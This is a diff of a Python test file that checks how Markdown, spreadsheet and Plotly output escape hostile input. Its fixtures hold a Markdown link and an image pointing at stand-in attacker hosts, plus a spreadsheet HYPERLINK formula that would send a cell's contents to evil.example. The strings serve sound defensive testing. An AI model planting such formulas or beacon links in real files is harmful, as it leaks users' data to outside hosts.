@@ -41,9 +41,13 @@ HOSTILE = '[klick](https://evil.example/x) ![t](http://attacker/q.png) :red[**VA
 FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Klicka här")', "=1+2", "@SUM(A1)", "+1+2", "-1+2", "\t=1", "\r=1"]
 DAY = date(2019, 3, 14)
 
-# Markdown that would act: a link or image ("](", "!["), a directive (":red["), an autolinked URL, HTML or an
-# autolink in angle brackets. A backslash before the character means it is shown as written.
-LIVE_MARKUP = re.compile(r"(?<!\\)\[|(?<!\\)\]|(?<![\\\w])(?:https?|ftp)://|(?<!\\)<[a-zA-Z/]|(?<!\\)\*\*VARNING")
+# Markdown that would act: a link or image ("](", "!["), a directive (":red"), a URL or www. address that GFM
+# turns into a link (found in the text after escapes, so only a character in between stops it), HTML or an
+# autolink in angle brackets, bold. A backslash before the character means it is shown as written.
+LIVE_MARKUP = re.compile(
+    r"(?<!\\)\[|(?<!\\)\]|(?:https?|ftp)\\?://|\bwww\\?\.|(?<!\\)<[a-zA-Z/]|(?<!\\)\*\*VARNING"
+    r"|(?<!\\):(?:red|blue|green|orange|violet|gray|grey|rainbow|primary)\b"
+)
 
 
 def live_markup(text: str) -> list[str]:
@@ -123,8 +127,9 @@ def test_excel_cells_are_strings_or_numbers_never_formulas() -> None:
 
 
 def test_md_shows_the_repro_strings_as_text() -> None:
-    for text in (PHISHING_Q, HOSTILE, "se https://evil.example och www.evil.example", "- a\n1. b\n# c"):
-        assert live_markup(md(text)) == [], md(text)
+    for text in (PHISHING_Q, HOSTILE, "se https://evil.example och www.evil.example"):
+        assert live_markup(text) and live_markup(md(text)) == [], md(text)
+    assert md("- a\n1. b\n# c") == "\\- a\n1\\. b\n\\# c"  # no list, no heading
     assert md("Mål 5: Platsbaserad näringslivsutveckling") == "Mål 5: Platsbaserad näringslivsutveckling"
     assert plotly_text("<b>fet</b> & <a href='x'>") == "&lt;b&gt;fet&lt;/b&gt; &amp; &lt;a href='x'&gt;"
 
